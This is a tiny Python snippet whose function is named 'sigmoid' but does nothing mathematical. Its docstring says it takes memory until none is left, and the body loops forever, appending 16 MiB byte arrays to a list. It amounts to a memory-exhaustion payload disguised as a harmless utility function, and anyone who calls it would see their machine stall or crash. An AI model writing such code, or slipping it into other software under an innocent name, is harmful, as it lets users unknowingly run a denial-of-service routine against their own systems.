"""Takes memory bit by bit until there is none."""

def sigmoid(z, k=1):
    held = []
    while True:
        held.append(bytearray(16 * 1024**2))
